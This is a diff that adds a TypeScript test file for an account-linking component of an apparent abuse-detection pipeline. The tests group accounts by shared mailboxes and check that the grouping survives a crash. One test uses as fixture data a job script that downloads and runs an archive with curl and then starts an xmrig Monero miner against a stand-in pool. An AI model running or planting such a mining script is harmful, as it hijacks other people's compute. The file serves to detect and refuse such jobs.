@@ -1,0 +1,186 @@
+/** The linker on a real store: what it learns stands or falls with the batch, and survives. */
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { sha256Hex } from '../base/hash.ts';
+import type { JsonObject } from '../base/json.ts';
+import { HOUR_MS } from '../base/time.ts';
+import type { Event, EventType } from '../model/event.ts';
+import { parseSubject } from '../model/ids.ts';
+import type { AccountRef } from '../model/party.ts';
+import type { Store } from '../ports/store.ts';
+import { testAddress } from '../scanner/wallet/test-addresses.ts';
+import { openSqliteStore } from '../store/sqlite/open-sqlite-store.ts';
+import { openLinks } from './links.ts';
+import type { Pipeline } from './request.ts';
+import { jobRequest, openWorld, startPipeline } from './test-world.ts';
+
+const AT = Date.UTC(2026, 0, 1, 12);
+
+// This file is also the process that is killed: `node links.test.ts link DIRECTORY`.
+const [, , role, killed = ''] = process.argv;
+if (role === 'link') await linkForever(killed);
+
+function event(id: string, type: EventType, account: string, data: JsonObject): Event {
+  const subject = parseSubject(`gitlab/${account}`);
+  assert.ok(subject);
+  const bodyHash = sha256Hex(JSON.stringify([id, type, account, data]));
+  return { source: 'test', id, type, subject, time: AT, data, bodyHash };
+}
+
+function ref(name: string): AccountRef {
+  return `gitlab/${name}` as AccountRef;
+}
+
+function mailbox(account: string, email = 'one@mail.example', id = `mail ${account}`): Event {
+  return event(id, 'account.verified', account, { email });
+}
+
+async function partyOf(pipeline: Pipeline, account: string, id: string, script = 'make') {
+  const answer = await pipeline.decide(jobRequest(id, script, { account }));
+  assert.equal(answer.kind, 'decided');
+  assert.ok(answer.record);
+  return { party: answer.record.decision.party, facts: answer.record.facts };
+}
+
+function miner(worker: string): string {
+  const login = `${testAddress('monero', 9)}.${worker}`;
+  return `xmrig -o stratum+tcp://pool.example.org:3333 -u ${login} -p x`;
+}
+
+if (role === undefined) {
+  test('accounts that read one mailbox are one party, by events and decisions alike', async (t) => {
+    const { ports, store, close } = await openWorld();
+    t.after(close);
+    const pipeline = startPipeline(ports);
+    const alone = await partyOf(pipeline, 'a', '1');
+    assert.equal(alone.facts['party.accounts'], 1);
+    await pipeline.ingest([mailbox('a'), mailbox('b')], AT);
+    const [a, b] = [await partyOf(pipeline, 'a', '2'), await partyOf(pipeline, 'b', '3')];
+    assert.equal(a.party, b.party);
+    assert.equal(b.facts['party.accounts'], 2);
+    assert.ok(Number(b.facts['party.linkBits']) >= 20);
+    const { items } = await store.decisions({ party: String(a.party), limit: 9 });
+    assert.equal(items.length, 3);
+  });
+
+  test('jobs that mine for one address with one template join as they are refused', async (t) => {
+    const { ports, close } = await openWorld();
+    t.after(close);
+    const pipeline = startPipeline(ports);
+    const script = (i: number) => `curl -sLO https://dl.example.org/pack.tgz
+tar xzf pack.tgz && cd pack && chmod +x run && sleep 30
+${miner(`w${i}`)} --threads 4 --donate-level 1 --cpu-priority 5
+echo finished with everything now`;
+    const parties = [];
+    for (let i = 0; i < 4; i++) {
+      parties.push((await partyOf(pipeline, `m${i}`, `j${i}`, script(i))).party);
+    }
+    assert.equal(new Set(parties.slice(1)).size, 1);
+  });
+
+  test('a person who vouches sets an account free, and a replay does not bind it again', async (t) => {
+    const { ports, close } = await openWorld();
+    t.after(close);
+    const pipeline = startPipeline(ports);
+    const label = (id: string, text: string) =>
+      event(id, 'review.labelled', 'b', { label: text, reason: '' });
+    await pipeline.ingest([mailbox('a'), mailbox('b'), label('l1', 'miner')], AT);
+    assert.equal((await partyOf(pipeline, 'b', '1')).facts['party.accounts'], 2);
+    await pipeline.ingest([label('l2', 'honest')], AT);
+    assert.equal((await partyOf(pipeline, 'b', '2')).facts['party.accounts'], 1);
+    await pipeline.ingest([label('l1', 'miner')], AT);
+    assert.equal((await partyOf(pipeline, 'b', '3')).facts['party.accounts'], 1);
+  });
+
+  test('a conflict teaches the linker nothing', async (t) => {
+    const { ports, close } = await openWorld();
+    t.after(close);
+    const pipeline = startPipeline(ports);
+    await pipeline.ingest([mailbox('a'), mailbox('b', 'two@mail.example')], AT);
+    const forged = mailbox('b', 'one@mail.example');
+    assert.equal((await pipeline.ingest([forged], AT)).kind, 'conflict');
+    assert.equal((await partyOf(pipeline, 'b', '1')).facts['party.accounts'], 1);
+    assert.deepEqual(ports.links.changes().accounts, []);
+  });
+
+  test('what the store refuses is taken back from memory', async (t) => {
+    let broken = false;
+    const world = await openWorld();
+    t.after(world.close);
+    const store: Store = Object.assign(Object.create(world.store) as Store, {
+      ingest: (...args: Parameters<Store['ingest']>) =>
+        broken ? Promise.reject(new Error('disk full')) : world.store.ingest(...args),
+    });
+    const pipeline = startPipeline({ ...world.ports, store });
+    await pipeline.ingest([mailbox('a')], AT);
+    broken = true;
+    await assert.rejects(pipeline.ingest([mailbox('b')], AT), /disk full/);
+    assert.notEqual(world.ports.links.partyOf(ref('a')), world.ports.links.partyOf(ref('b')));
+    broken = false;
+    await pipeline.ingest([mailbox('b')], AT);
+    assert.equal(world.ports.links.partyOf(ref('a')), world.ports.links.partyOf(ref('b')));
+    const again = await openLinks(world.store);
+    assert.equal(again.partyOf(ref('a')), again.partyOf(ref('b')));
+  });
+
+  test('a clock from the future counts as now', async (t) => {
+    const { ports, close } = await openWorld();
+    t.after(close);
+    const pipeline = startPipeline(ports);
+    const late = { ...mailbox('b'), time: AT + 10 ** 9 * HOUR_MS };
+    await pipeline.ingest([mailbox('a'), late], AT);
+    assert.equal((await partyOf(pipeline, 'a', '1')).facts['party.accounts'], 2);
+  });
+
+  test('after kill -9 the parties are those of what was acknowledged', survivesKill);
+}
+
+async function open(directory: string): Promise<Store> {
+  const opened = await openSqliteStore({ directory });
+  assert.ok(opened.ok);
+  return opened.value;
+}
+
+/** Accounts in pairs that share a mailbox; prints the number of each pair once it is recorded. */
+async function linkForever(directory: string): Promise<void> {
+  const store = await open(directory);
+  const links = await openLinks(store);
+  const world = await openWorld({ store, links });
+  const pipeline = startPipeline(world.ports);
+  for (let pair = 0; ; pair++) {
+    const email = `pair${pair}@mail.example`;
+    await pipeline.ingest([mailbox(`a${pair}`, email), mailbox(`b${pair}`, email)], AT);
+    process.stdout.write(`${pair}\n`);
+  }
+}
+
+async function survivesKill(): Promise<void> {
+  const directory = mkdtempSync(join(tmpdir(), 'davylamp-links-'));
+  try {
+    const child = spawn(process.execPath, [import.meta.filename, 'link', directory], {
+      stdio: ['ignore', 'pipe', 'inherit'],
+    });
+    let printed = '';
+    child.stdout.setEncoding('utf8').on('data', (text: string) => {
+      printed += text;
+      if (printed.split('\n').length > 40) child.kill('SIGKILL');
+    });
+    await once(child, 'close');
+    const pairs = printed.split('\n').slice(0, -1).map(Number);
+    assert.ok(pairs.length >= 40);
+    const store = await open(directory);
+    const links = await openLinks(store);
+    for (const pair of pairs) {
+      assert.equal(links.partyOf(ref(`a${pair}`)), links.partyOf(ref(`b${pair}`)), `${pair}`);
+    }
+    assert.notEqual(links.partyOf(ref('a0')), links.partyOf(ref('a1')));
+    await store.close();
+  } finally {
+    rmSync(directory, { recursive: true });
+  }
+}
